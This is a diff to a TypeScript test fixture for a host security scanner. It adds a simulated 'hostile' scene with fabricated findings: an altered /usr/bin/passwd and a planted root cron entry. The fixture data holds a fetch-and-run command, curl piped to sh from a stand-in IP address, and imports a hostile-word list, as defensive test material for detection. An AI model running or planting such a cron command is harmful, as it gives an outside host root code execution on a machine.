@@ -1,20 +1,23 @@
 /** What starts by itself, accounts and packages of each scene. */
 import type { PackageScan } from '../../src/desk/packages.ts';
 import type { AccountScan, StartupScan } from '../../src/desk/startup.ts';
+import type { Finding } from '../../src/findings/finding.ts';
 import { HOSTILE } from './hostile-words.ts';
 import { alteredFile, packageScan } from './packages.ts';
 import { accountFacts, startupEntry, startupScan } from './startup.ts';
+import { findingFrom } from './state.ts';
 
 export interface StartupScene {
   readonly startup: StartupScan;
   readonly accounts: AccountScan;
   /** Null before the first comparison. */
   readonly packages: PackageScan | null;
+  /** About some of it. */
+  readonly findings?: readonly Finding[];
 }
 
-/** The findings of the hostile scene are about these. */
-export const PLANTED = '/etc/cron.d/.update';
-export const ALTERED = '/usr/bin/passwd';
+const PLANTED = '/etc/cron.d/.update';
+const ALTERED = '/usr/bin/passwd';
 
 const HOUR_MS = 3_600_000;
 const DAY_MS = 24 * HOUR_MS;
@@ -39,6 +42,29 @@ const DAEMON = accountFacts({
   },
   ...{ password: 'locked', passwordSetMs: null, keys: 0, login: [], rights: [], last: null },
 });
+
+function hostileFindings(nowMs: number): readonly Finding[] {
+  const seen = {
+    firstSeen: new Date(nowMs - HOUR_MS).toISOString(),
+    lastSeen: new Date(nowMs).toISOString(),
+  };
+  return [
+    findingFrom({
+      ...{ ...seen, id: '5ca1ab1e5ca1ab1e', check: 'packaged-file', severity: 'high', scar: true },
+      subject: { kind: 'file', path: ALTERED },
+      summary: `${ALTERED} is not as passwd 1:4.17.4-2 has it`,
+      evidence: { package: 'passwd', version: '1:4.17.4-2', md5_found: 'b'.repeat(32), files: 1 },
+      remedy: 'compare it with the package, and install the package again if you did not change it',
+    }),
+    findingFrom({
+      ...{ ...seen, id: 'f005ba11f005ba11', check: 'startup-entry', severity: 'medium', scar: true },
+      subject: { kind: 'file', path: PLANTED, content: 'planted' },
+      summary: `${PLANTED} (system crontab): "curl -s http://203.0.113.9/${HOSTILE.markup} | sh" as root, * * * * *; no package vouches for it`,
+      evidence: { place: 'crontab', user: 'root', entry: 'planted' },
+      remedy: 'check who put it there with desk startup --since, and remove it if it is not yours',
+    }),
+  ];
+}
 
 export function startupScene(
   name: 'empty' | 'healthy' | 'degraded' | 'hostile' | 'crowd',
@@ -135,6 +161,7 @@ export function startupScene(
       };
     case 'hostile':
       return {
+        findings: hostileFindings(nowMs),
         startup: {
           ...whole,
           entries: [
